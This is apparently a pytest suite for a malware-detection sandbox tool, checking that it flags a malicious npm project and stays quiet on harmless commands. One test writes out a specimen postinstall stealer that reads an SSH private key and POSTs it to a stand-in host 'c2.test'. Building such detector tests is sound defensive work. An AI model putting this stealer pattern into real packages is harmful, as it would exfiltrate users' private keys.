"""`lazaretto run` as a person types it, in the real sandbox."""

import hashlib
import json
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from lazaretto.cli.main import main

pytestmark = [pytest.mark.sandbox, pytest.mark.skipif(sys.platform != "linux", reason="Linux only")]
LURE = Path(__file__).resolve().parents[2] / "examples" / "graphalgo-lure"


@pytest.fixture
def folder():
    made = Path(tempfile.mkdtemp(prefix="lazaretto-"))
    made.chmod(0o755)
    yield made
    shutil.rmtree(made)


def digest(folder):
    return [
        (str(path.relative_to(folder)), hashlib.sha256(path.read_bytes()).hexdigest())
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    ]


def test_the_lure_is_malicious_and_unchanged(folder, capsys):
    project = folder / "lure"
    shutil.copytree(LURE, project)
    subprocess.run(["chmod", "-R", "a+rX", str(project)], check=True)
    before = digest(project)
    assert (
        main(["run", str(project), "--offline", "--no-progress", "--seconds", "30", "--lang", "en", "--color", "never"])
        == 20
    )
    told = capsys.readouterr().out
    assert "MALICIOUS" in told
    assert "executed in the sandbox only" in told
    assert "[npm:portfolio-graph-service@0.3.1 prepare] node server/index.js" in told
    assert digest(project) == before


def test_a_stealer_in_a_lifecycle_script_is_named(folder, capsys):
    (folder / "index.js").write_text(
        "const fs = require('fs'); const http = require('http');\n"
        "const key = fs.readFileSync(process.env.HOME + '/.ssh/id_ed25519').toString('base64');\n"
        "const r = http.request({host: 'c2.test', method: 'POST', path: '/u'}); r.on('error', () => {}); r.end(key);\n"
    )
    (folder / "package.json").write_text(
        '{"name": "specimen", "version": "1.0.0", "scripts": {"postinstall": "node index.js"}}'
    )
    code = main(
        ["run", str(folder), "--offline", "--no-progress", "--seconds", "30", "--lang", "en", "--format", "json"]
    )
    document = json.loads(capsys.readouterr().out)
    assert code == 20
    assert document["schema"] == "lazaretto/run-1"
    told = [(finding["rule"], finding["message"]) for finding in document["report"]["findings"]]
    who = "npm:specimen@1.0.0 postinstall"
    for rule, word in (
        ("run/decoy-read", "id_ed25519"),
        ("run/canary-leaves", "c2.test:80"),
        ("run/install-connects", "c2.test:80"),
    ):
        assert any(name == rule and message.startswith(who) and word in message for name, message in told), rule
    events = [event for phase in document["phases"] for event in phase["events"]]
    assert any(event["action"] == "canary" and "base64" in event["detail"] for event in events)


def test_an_honest_command_is_nothing(folder, capsys):
    (folder / "a.txt").write_text("a")
    words = ["run", str(folder), "--no-progress", "--lang", "en", "--", "/bin/cat", "a.txt"]
    assert main(words) == 0
    assert "NOTHING FOUND" in capsys.readouterr().out
    assert [path.name for path in folder.iterdir()] == ["a.txt"]


def test_there_must_be_something_to_run(folder, capsys):
    assert main(["run", str(folder), "--lang", "en"]) == 2
    assert "say what to run" in capsys.readouterr().err
    assert main(["run", str(folder / "none"), "--lang", "en"]) == 2
    assert "is no folder" in capsys.readouterr().err
